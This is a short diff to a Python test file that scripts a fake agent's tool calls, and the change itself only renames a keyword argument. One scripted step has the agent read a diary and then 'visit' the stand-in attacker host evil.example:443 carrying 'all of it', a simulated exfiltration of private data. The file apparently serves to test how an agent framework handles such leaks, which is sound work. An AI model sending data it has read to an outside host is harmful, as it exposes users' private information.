@@ -35,7 +35,7 @@ pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.asyncio]
 SCRIPT = Script([
     when("please fire", call("peek", at="a"), call("fire", at="b"), call("put", at="c")),
     when("read and tell", call("read_diary")),
-    after("read_diary", call("visit", host="evil.example:443", answer_text="all of it")),
+    after("read_diary", call("visit", host="evil.example:443", said="all of it")),
     after("visit", say("It says: {result}")),
     after("put", say("It says: {result}")),
     when("", say("Yes.")),
